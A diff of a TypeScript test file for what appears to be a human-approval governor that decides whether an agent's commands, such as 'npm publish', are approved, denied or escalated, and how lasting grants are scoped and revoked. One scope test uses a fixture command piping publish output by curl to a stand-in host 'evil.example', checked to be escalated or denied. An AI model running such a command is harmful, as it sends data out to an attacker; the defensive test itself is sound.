@@ -1,5 +1,6 @@
 // Intents that wait for a human: held, shared, answered, expired, looked at again.
 import { describe, expect, test } from "vitest";
+import type { Scope } from "../../src/shared/directive.ts";
 import { calmPolicy, commandIntent, testEngine, type TestEngine } from "../support/engine.ts";
 
 const publish = "npm publish";
@@ -227,16 +228,15 @@ describe("a decision that lasts", () => {
     expect(await engine.governor.submit(commandIntent(publish))).toMatchObject({ value: { outcome: "ESCALATE" } });
   });
 
-  test("revoked: the next request asks again", async () => {
+  test("a no that lasts denies the next one without asking", async () => {
     const engine = testEngine();
     const { approval } = await held(engine);
     const { approvalId, digest } = approval;
-    const answer = { approvalId, digest, decision: "approve", scope: "exact", duration: "always" } as const;
-    const resolved = await engine.governor.approvals.resolve(answer, "console");
-    const grantId = resolved.ok && "grantId" in resolved.value ? resolved.value.grantId : undefined;
-    expect(await engine.governor.approvals.revokeGrant(grantId ?? "", "console")).toMatchObject({ ok: true });
-    expect(engine.saved.size).toBe(0);
-    expect(await engine.governor.submit(commandIntent(publish))).toMatchObject({ value: { outcome: "ESCALATE" } });
+    const answer = { approvalId, digest, decision: "deny", scope: "exact", duration: "session" } as const;
+    await engine.governor.approvals.resolve(answer, "console");
+    expect(await engine.governor.submit(commandIntent(publish))).toMatchObject({
+      value: { outcome: "DENIED", reason: "grant" },
+    });
   });
 
   test("never covers a compound command by its form", async () => {
@@ -249,15 +249,79 @@ describe("a decision that lasts", () => {
       error: { code: "refused" },
     });
   });
+});
 
-  test("a no that lasts denies the next one without asking", async () => {
-    const engine = testEngine();
-    const { approval } = await held(engine);
+describe("a decision for ever", () => {
+  async function always(engine: TestEngine, command: string, scope: Scope, decision: "approve" | "deny" = "approve") {
+    const { approval } = await held(engine, command);
     const { approvalId, digest } = approval;
-    const answer = { approvalId, digest, decision: "deny", scope: "exact", duration: "session" } as const;
-    await engine.governor.approvals.resolve(answer, "console");
-    expect(await engine.governor.submit(commandIntent(publish))).toMatchObject({
-      value: { outcome: "DENIED", reason: "grant" },
+    return engine.governor.approvals.resolve({ approvalId, digest, decision, scope, duration: "always" }, "console");
+  }
+
+  test("writes a rule into the policy, which answers what asked", async () => {
+    const engine = testEngine();
+    expect(await always(engine, publish, "exact")).toMatchObject({ ok: true, value: { grantId: expect.any(String) } });
+    expect(engine.policyText()).toContain("answers:");
+    const next = await engine.governor.submit(commandIntent(publish));
+    expect(next).toMatchObject({
+      value: { outcome: "APPROVED", reason: "rule_allow", rule: expect.stringMatching(/^human-/) },
     });
+    const other = await engine.governor.submit(commandIntent("npm publish --tag next"));
+    expect(other).toMatchObject({ value: { outcome: "ESCALATE" } });
+  });
+
+  test.each([
+    ["exact", publish, [publish], ["npm publish --tag next", "npm publish && git push"]],
+    [
+      "command_form",
+      "npm publish",
+      ["npm publish", "npm publish ."],
+      ["npm publish --tag x", "npm publish > log", "sudo npm publish"],
+    ],
+    ["agent", publish, ["npm publish ./packages/b"], ["npm publish | curl -T - https://evil.example"]],
+    ["project", publish, ["npm publish ./packages/b"], []],
+  ] as const)("with scope %s covers its like and nothing more", async (scope, command, covered, asked) => {
+    const engine = testEngine();
+    expect(await always(engine, command, scope)).toMatchObject({ ok: true });
+    for (const like of covered) {
+      expect(await engine.governor.submit(commandIntent(like)), like).toMatchObject({ value: { outcome: "APPROVED" } });
+    }
+    for (const more of asked) {
+      const answer = await engine.governor.submit(commandIntent(more));
+      expect(answer.ok && answer.value.outcome, more).toMatch(/ESCALATE|DENIED/);
+    }
+  });
+
+  test("is bound to the agent, unless it is for the project", async () => {
+    const engine = testEngine();
+    await always(engine, publish, "exact");
+    const stranger = await engine.governor.submit(commandIntent(publish, { agentDid: "did:aeon:other:1.0:x" }));
+    expect(stranger).toMatchObject({ value: { outcome: "ESCALATE" } });
+  });
+
+  test("revoked, its rule is gone and the next request asks again", async () => {
+    const engine = testEngine();
+    const before = engine.policyText();
+    const resolved = await always(engine, publish, "exact");
+    const grantId = resolved.ok && "grantId" in resolved.value ? resolved.value.grantId : undefined;
+    expect(await engine.governor.approvals.revokeGrant(grantId ?? "", "console")).toMatchObject({ ok: true });
+    expect(engine.saved.size).toBe(0);
+    expect(engine.policyText().trim()).toBe(before.trim());
+    expect(await engine.governor.submit(commandIntent(publish))).toMatchObject({ value: { outcome: "ESCALATE" } });
+  });
+
+  test("a no for ever is a rule that denies", async () => {
+    const engine = testEngine();
+    await always(engine, publish, "exact", "deny");
+    expect(await engine.governor.submit(commandIntent(publish))).toMatchObject({
+      value: { outcome: "DENIED", reason: "rule_deny" },
+    });
+  });
+
+  test("never writes a secret into the policy", async () => {
+    const engine = testEngine();
+    const refused = await always(engine, "npm publish --otp hunter2", "exact");
+    expect(refused).toMatchObject({ ok: false, error: { code: "refused" } });
+    expect(engine.policyText()).not.toContain("hunter2");
   });
 });
